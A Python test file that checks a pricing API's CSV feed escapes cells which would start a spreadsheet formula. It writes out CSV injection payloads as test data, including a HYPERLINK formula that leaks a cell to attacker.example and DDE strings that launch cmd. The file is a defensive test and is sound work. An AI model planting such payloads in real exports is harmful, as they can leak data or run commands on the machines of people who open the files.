"""Cells of the CSV feed never start a spreadsheet formula (issue 15, item 15; OWASP's CSV injection advice)."""

from __future__ import annotations

import asyncio
import csv
import io

from tests.factories import committed_model_and_key

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def test_a_promotion_and_a_model_named_as_formulas_are_escaped_in_the_csv_feed(committed_client,
                                                                                    committed_engine):
    model_id, writer = await committed_model_and_key(committed_engine, "csvinjection")
    _, reader = await committed_model_and_key(committed_engine, "csvreader", "feeds:read")
    assert (await committed_client.patch(f"/v1/models/{model_id}", json={"name": FORMULA},
                                         headers=writer)).status_code == 200
    price = {"valid_from": "2026-01-01T00:00:00Z", "input_per_mtok": "1", "output_per_mtok": "2", "source": "test"}
    assert (await committed_client.post(f"/v1/models/{model_id}/prices", json=price, headers=writer)).status_code == 201
    # Promotions still to come: a past one over a price would change the past (docs/security.md, History).
    for name, start in ((FORMULA, "2030-02-01"), ("+1+cmd|' /C calc'!A0", "2030-03-01"),
                        ("@SUM(1+1)*cmd|' /C calc'!A0", "2030-04-01"), ("\t=1+1", "2030-05-01")):
        promotion = {"name": name, "model": model_id, "percent_off": "10", "valid_from": f"{start}T00:00:00Z",
                     "valid_to": f"{start[:8]}20T00:00:00Z", "source": "test"}
        created = await committed_client.post("/v1/promotions", json=promotion, headers=writer)
        assert created.status_code == 201, created.text
        row = await _feed_row(committed_client, reader, model_id, at=f"{start[:8]}10")
        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], row
        # Escaped, not dropped: the cell is the name behind one quote, as OWASP recommends.
        assert row["promotions"].startswith("'" + name)


async def _feed_row(client, reader, model_id: str, at: str) -> dict[str, str]:
    for _ in range(200):  # the snapshot follows the commit through NOTIFY
        response = await client.get("/v1/feeds/prices", params={"format": "csv", "at": at}, headers=reader)
        rows = [row for row in csv.DictReader(io.StringIO(response.text)) if row["model"] == model_id]
        if rows and rows[0]["promotions"]:
            return rows[0]
        await asyncio.sleep(0.01)
    raise AssertionError(f"{model_id} never reached the feed at {at}")
